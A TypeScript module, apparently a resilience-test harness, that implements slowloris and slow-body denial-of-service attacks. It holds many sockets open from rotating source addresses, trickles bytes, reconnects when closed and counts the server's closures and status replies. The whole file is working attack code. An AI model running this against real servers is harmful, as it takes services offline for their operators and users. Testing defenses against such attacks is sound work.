/**
 * Slow connections, as an attacker holds them: raw sockets from a few source addresses that each
 * keep a connection open as long as the server lets them, and reconnect (after a second or two) when
 * it closes them.
 *
 * - `slowloris`: a request line and then one more header line every 2 s, never the end of the headers;
 * - `slow-body`: complete headers announcing a 100,000-byte body, then one byte every 2 s.
 */
import net from 'node:net';

export type SlowKind = 'slowloris' | 'slow-body';

export interface SlowAttackOptions {
  host: string;
  port: number;
  path: string;
  kind: SlowKind;
  /** Connections to hold at once. */
  connections: number;
  /** Source addresses, used round-robin. */
  addresses: string[];
}

export interface SlowAttackStats {
  /** Connections opened (including reconnects). */
  opened: number;
  /** Closed by the server (timeouts, eviction, refusal) while the attack ran. */
  closedByServer: number;
  /** Open right now, and the most at once. */
  open: number;
  maxOpen: number;
  /** Status lines the server answered before closing (408, 503, …). */
  answers: Map<string, number>;
}

const TRICKLE_MS = 2000;

export class SlowAttack {
  readonly stats: SlowAttackStats = { opened: 0, closedByServer: 0, open: 0, maxOpen: 0, answers: new Map() };
  private readonly sockets = new Set<net.Socket>();
  private running = false;
  private next = 0;
  private readonly options: SlowAttackOptions;
  private timer: NodeJS.Timeout | undefined;

  constructor(options: SlowAttackOptions) {
    this.options = options;
  }

  /** Opens the connections, `perTick` every 100 ms, and keeps them trickling. */
  async start(perTick = 250): Promise<void> {
    this.running = true;
    this.timer = setInterval(() => this.trickle(), TRICKLE_MS);
    for (let opened = 0; opened < this.options.connections && this.running; opened += perTick) {
      const batch = Math.min(perTick, this.options.connections - opened);
      for (let i = 0; i < batch; i += 1) this.open();
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
  }

  private open(): void {
    const { host, port, path, kind, addresses } = this.options;
    const localAddress = addresses[this.next++ % addresses.length]!;
    const socket = net.connect({ host, port, localAddress });
    this.stats.opened += 1;
    this.sockets.add(socket);
    this.stats.open = this.sockets.size;
    this.stats.maxOpen = Math.max(this.stats.maxOpen, this.stats.open);
    socket.setNoDelay(true);
    socket.on('connect', () => {
      const head = `POST ${path} HTTP/1.1\r\nHost: ${host}:${port}\r\nUser-Agent: slow\r\n`;
      socket.write(
        kind === 'slowloris'
          ? head
          : `${head}Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n{`,
      );
    });
    let answered = false;
    socket.on('data', (chunk: Buffer) => {
      if (answered) return;
      answered = true;
      const status = /^HTTP\/1\.1 (\d{3})/.exec(chunk.toString('latin1'))?.[1] ?? 'other';
      this.stats.answers.set(status, (this.stats.answers.get(status) ?? 0) + 1);
    });
    socket.on('error', () => {});
    socket.on('close', () => {
      this.sockets.delete(socket);
      this.stats.open = this.sockets.size;
      if (!this.running) return;
      this.stats.closedByServer += 1;
      setTimeout(() => this.running && this.open(), 1000 + Math.random() * 1000);
    });
  }

  private trickle(): void {
    const kind = this.options.kind;
    for (const socket of this.sockets) {
      if (socket.connecting || socket.destroyed) continue;
      socket.write(kind === 'slowloris' ? `X-Slow-${this.next % 1000}: 1\r\n` : ' ');
    }
  }

  stop(): void {
    this.running = false;
    clearInterval(this.timer);
    for (const socket of this.sockets) socket.destroy();
    this.sockets.clear();
    this.stats.open = 0;
  }
}
